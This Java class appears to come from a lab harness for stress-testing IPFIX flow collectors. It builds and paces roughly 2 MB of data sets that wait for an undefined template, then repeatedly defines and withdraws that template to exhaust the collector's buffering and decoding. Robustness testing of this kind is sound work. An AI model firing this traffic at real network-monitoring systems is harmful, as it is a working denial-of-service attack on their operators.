package io.millrace.lab.siege;

import java.io.IOException;
import java.nio.ByteBuffer;

/**
 * Data that waits for its template in the most expensive form: 2 MB in sets of one byte. Then the
 * template, so that all of it is decoded at once, and repeated withdrawals and redefinitions.
 */
final class HeldData implements Attack {
  private static final int SETS = 270; // per datagram
  private static final int HELD_BYTES = 2 << 20;
  private static final int DATAGRAMS = HELD_BYTES / SETS;
  private static final int REDEFINED = 50;
  private static final double SHARE = 0.3; // of the phase, in which data is sent
  private static final int TEMPLATE = 300;
  private static final int PROTOCOL_FIELD = 4;
  private static final int IPFIX = 10;
  private static final int TEMPLATE_SET = 2;
  private static final int HEADER = 16;

  private int domain;

  @Override
  public void strike(Attacker from) throws IOException {
    domain++;
    byte[] held = data();
    for (int i = 0; i < DATAGRAMS && !from.isOver(); i++) {
      from.send(held);
      from.pace(from.target().perSecond(DATAGRAMS / SHARE));
    }
    for (int i = 0; i < REDEFINED; i++) {
      from.send(template(1));
      from.send(template(0));
    }
    from.send(template(1));
  }

  private byte[] data() {
    ByteBuffer bytes = ByteBuffer.allocate(HEADER + SETS * 5);
    begin(bytes);
    for (int i = 0; i < SETS; i++) {
      bytes.putShort((short) TEMPLATE).putShort((short) 5).put((byte) 6);
    }
    return bytes.array();
  }

  /** Encodes the template with one field, or its withdrawal with none. */
  private byte[] template(int fields) {
    int set = 8 + 4 * fields;
    ByteBuffer bytes = ByteBuffer.allocate(HEADER + set);
    begin(bytes);
    bytes.putShort((short) TEMPLATE_SET).putShort((short) set);
    bytes.putShort((short) TEMPLATE).putShort((short) fields);
    if (fields > 0) {
      bytes.putShort((short) PROTOCOL_FIELD).putShort((short) 1);
    }
    return bytes.array();
  }

  private void begin(ByteBuffer bytes) {
    bytes
        .putShort((short) IPFIX)
        .putShort((short) bytes.capacity())
        .putInt((int) (System.currentTimeMillis() / 1_000))
        .putInt(0)
        .putInt(domain);
  }
}
